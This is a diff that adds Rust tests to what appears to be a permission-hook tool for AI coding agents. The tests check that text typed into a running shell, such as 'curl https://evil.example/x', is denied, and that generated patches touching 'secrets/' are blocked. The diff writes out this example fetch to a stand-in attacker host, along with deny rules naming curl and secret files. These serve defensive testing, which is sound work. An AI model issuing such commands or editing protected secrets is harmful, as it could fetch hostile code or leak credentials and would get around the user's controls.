@@ -1183,3 +1183,85 @@ fn codex_managed_requirements_keep_comments_and_doctor_reports_each_agent() {
     assert!(out.stderr.contains(".qwen/settings.json") && out.stderr.contains("not changed"), "{out:?}");
     assert_eq!(std::fs::read_to_string(&broken).unwrap(), "{ not json");
 }
+
+/// Text typed into a running shell (Copilot `write_bash`, Codex `write_stdin`) is judged as a
+/// command line: `Bash(curl *)` denies it.
+#[test]
+fn text_typed_into_a_running_shell_is_a_command_line() {
+    let env = rules_env();
+    let mut c: Value = serde_json::from_slice(&read("copilot-cli-1.0.102/preToolUse-bash.json")).unwrap();
+    c["toolName"] = "write_bash".into();
+    c["toolArgs"] = json!({"shellId": "0", "input": "curl https://evil.example/x\n", "delay": 1});
+    let out = dispatch(&env, "copilot", Some("preToolUse"), &serde_json::to_vec(&c).unwrap());
+    assert_eq!(out.json()["permissionDecision"], "deny", "{out:?}");
+    let mut x: Value = serde_json::from_slice(&read("codex-0.169.0/PreToolUse-Bash.json")).unwrap();
+    x["tool_name"] = "write_stdin".into();
+    x["tool_input"] = json!({"session_id": 1, "chars": "curl https://evil.example/x\n"});
+    let out = dispatch(&env, "codex", None, &serde_json::to_vec(&x).unwrap());
+    assert_eq!(out.code, 2, "{out:?}");
+    assert!(out.stderr.contains("Bash(curl *)"), "{out:?}");
+}
+
+/// Generated patches (Codex's envelope with indentation, CRLF, a heredoc wrapper, moves,
+/// deletes, several files in any order, unified diffs): whenever any file the patch names is
+/// under `secrets/`, `Edit(./secrets/**)` denies it; when none is, it runs.
+#[test]
+fn generated_patches_touching_secrets_are_denied() {
+    let env = rules_env();
+    let base: Value = serde_json::from_slice(&read("codex-0.169.0/PreToolUse-apply_patch-add.json")).unwrap();
+    let mut rng = 0x2545F4914F6CDD1Du64;
+    let mut next = |n: u64| {
+        rng ^= rng << 13;
+        rng ^= rng >> 7;
+        rng ^= rng << 17;
+        rng % n
+    };
+    let (mut denied, mut ran) = (0, 0);
+    for i in 0..300 {
+        let files = 1 + next(4);
+        let mut body = String::new();
+        let mut touches_secret = false;
+        let indent = ["", " ", "  ", "\t"][next(4) as usize];
+        let eol = if next(5) == 0 { "\r\n" } else { "\n" };
+        for f in 0..files {
+            let secret = next(3) == 0;
+            let dir = if secret {
+                ["secrets/", "./secrets/", "src/../secrets/", "secrets/a/b/"][next(4) as usize]
+            } else {
+                "src/"
+            };
+            let path = format!("{dir}f{i}_{f}.txt");
+            match next(4) {
+                0 => body.push_str(&format!("{indent}*** Add File: {path}{eol}+x{eol}")),
+                1 => body.push_str(&format!("{indent}*** Update File: {path}{eol}@@{eol}-a{eol}+b{eol}")),
+                2 => body.push_str(&format!("{indent}*** Delete File: {path}{eol}")),
+                _ => {
+                    // A move: the destination counts.
+                    let from = format!("src/m{i}_{f}.txt");
+                    body.push_str(&format!(
+                        "{indent}*** Update File: {from}{eol}{indent}*** Move to: {path}{eol}@@{eol}-a{eol}+b{eol}"
+                    ));
+                }
+            }
+            touches_secret |= secret;
+        }
+        let patch = format!("{indent}*** Begin Patch{eol}{body}{indent}*** End Patch{eol}");
+        let (tool, input) = match next(3) {
+            0 => ("Bash", json!({"command": format!("apply_patch <<'EOF'\n{patch}EOF\n")})),
+            _ => ("apply_patch", json!({"command": patch})),
+        };
+        let mut ev = base.clone();
+        ev["tool_name"] = tool.into();
+        ev["tool_input"] = input;
+        let out = dispatch(&env, "codex", None, &serde_json::to_vec(&ev).unwrap());
+        if touches_secret {
+            assert_eq!(out.code, 2, "#{i} not denied: {ev}\n{out:?}");
+            assert!(out.stderr.contains("secrets"), "{out:?}");
+            denied += 1;
+        } else {
+            assert_eq!((out.code, out.stdout.as_str()), (0, ""), "#{i} denied without a secret: {ev}\n{out:?}");
+            ran += 1;
+        }
+    }
+    assert!(denied > 50 && ran > 50, "{denied} denied, {ran} ran");
+}
